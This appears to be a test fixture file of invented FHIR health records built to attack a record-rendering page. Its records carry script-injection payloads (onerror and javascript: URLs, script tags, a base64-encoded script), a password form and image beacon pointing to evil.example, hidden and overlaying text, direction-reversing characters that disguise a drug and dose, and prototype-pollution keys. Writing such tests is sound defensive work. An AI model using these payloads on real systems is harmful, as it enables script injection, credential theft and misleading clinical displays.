/** Records that attack the page, or that nobody may show as they are. All of them are invented. */
const narrative = (markup) =>
  `"text": { "status": "additional", "div": ${JSON.stringify(`<div xmlns="http://www.w3.org/1999/xhtml">${markup}</div>`)} }`;

export const hostileTraps = [
  {
    title: 'A modifier that nobody knows, with a text to read in its place',
    json: `{
  "resourceType": "Observation", "id": "negated", "status": "final", ${narrative('<p>There is <b>no</b> malignancy.</p>')},
  "modifierExtension": [{ "url": "http://x.example/fhir/StructureDefinition/negated", "valueBoolean": true }], "code": { "text": "Malignancy" }, "valueBoolean": true
}`,
  },
  {
    title: 'A modifier that nobody knows, without a text',
    json: `{
  "resourceType": "Observation", "id": "negated-2", "status": "final", "modifierExtension": [{ "url": "http://x.example/fhir/StructureDefinition/negated", "valueBoolean": true }], "code": { "text": "Malignancy" }, "valueBoolean": true
}`,
  },
  {
    title: 'Rules that nobody knows',
    json: '{ "resourceType": "Basic", "id": "rules", "implicitRules": "http://x.example/rules", "code": { "text": "Anything" } }',
  },
  {
    title: 'A text with scripts and pictures from elsewhere',
    json: `{
  "resourceType": "Basic", "id": "scripts", "code": { "text": "Scripts" }, ${narrative(
    '<p>Read me.</p><img src="https://evil.example/seen.png" onerror="alert(1)" alt="A picture"/><a href="javascript:alert(1)">A link</a><script>alert(1)</script>',
  )}
}`,
  },
  {
    title: 'A text that hides a part of itself and lies over the page',
    json: `{
  "resourceType": "Basic", "id": "overlay", "code": { "text": "Overlay" }, ${narrative(
    '<p style="display:none">Allergic to penicillin.</p><p style="position:fixed;inset:0;background:red;z-index:9">All is well.</p>',
  )}
}`,
  },
  {
    title: 'A text with a form and an element of this kit',
    json: `{
  "resourceType": "Basic", "id": "form", "code": { "text": "Form" }, ${narrative(
    '<form action="https://evil.example/"><input name="password"/><button>Sign in</button></form><smart-auth fhir-base="https://evil.example/fhir"></smart-auth>',
  )}
}`,
  },
  {
    title: 'A well-meant text: a table, and styles of FHIR’s own',
    json: `{
  "resourceType": "Basic", "id": "table", "code": { "text": "Table" }, ${narrative(
    '<table class="grid"><caption>Doses</caption><tr><th>Morning</th><th>Evening</th></tr><tr><td>10 mg</td><td><span class="bold">none</span></td></tr></table>',
  )}
}`,
  },
  {
    title: 'Signs that turn the direction of text',
    json: String.raw`{
  "resourceType": "MedicationRequest", "id": "turned", "status": "active", "intent": "order", "medicationCodeableConcept": { "text": "\u202enirafraW\u202c" }, "subject": { "display": "Ida Lindqvist" }, "dosageInstruction": [{ "text": "\u202egm 05\u202c once a day" }]
}`,
  },
  {
    title: 'An attachment at another server',
    json: `{
  "resourceType": "DocumentReference", "id": "elsewhere", "status": "current", "description": "Held elsewhere", "content": [{ "attachment": { "contentType": "application/pdf", "title": "Report", "url": "https://evil.example/Binary/1" } }]
}`,
  },
  {
    title: 'An attachment that is a script in place of an address',
    json: `{
  "resourceType": "DocumentReference", "id": "script", "status": "current", "description": "No address", "content": [{ "attachment": { "contentType": "text/plain", "title": "Note", "url": "javascript:alert(document.domain)" } }]
}`,
  },
  {
    title: 'An attachment that is not what it says',
    json: `{
  "resourceType": "DocumentReference", "id": "lie", "status": "current", "description": "Called a picture", "content": [{ "attachment": { "contentType": "image/png", "title": "Picture", "data": "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==" } }]
}`,
  },
  {
    title: 'A page as an attachment',
    json: `{
  "resourceType": "Binary", "id": "page", "contentType": "text/html", "data": "PHA+SGVsbG88L3A+PGltZyBzcmM9Imh0dHBzOi8vZXZpbC5leGFtcGxlL3NlZW4ucG5nIj4="
}`,
  },
  {
    title: 'Markup where plain text belongs',
    json: `{
  "resourceType": "Patient", "id": "markup", "name": [{ "text": "<img src=x onerror=alert(1)>" }], "contact": [{ "name": { "text": "\${7*7}" } }], "telecom": [{ "system": "url", "value": "javascript:alert(1)" }]
}`,
  },
  {
    title: 'Records that go in circles',
    json: `{
  "resourceType": "MedicationRequest", "id": "circle", "status": "active", "intent": "order", "medicationReference": { "reference": "#m" }, "subject": { "display": "Ida Lindqvist" },
  "contained": [{ "resourceType": "Medication", "id": "m", "code": { "text": "Loop" }, "ingredient": [{ "itemReference": { "reference": "#m" } }] }]
}`,
  },
  {
    title: 'Names that programs trip over',
    json: `{
  "resourceType": "Basic", "id": "odd", "__proto__": { "polluted": true }, "constructor": { "prototype": "x" }, "code": { "text": "Prototypes" }
}`,
  },
  {
    title: 'Of a type that does not exist',
    json: '{ "resourceType": "Horoscope", "id": "stars", "sign": "Leo", "lucky": { "number": [7, 13.50] } }',
  },
  { title: 'No resource at all', json: '{ "name": "Ida" }' },
];
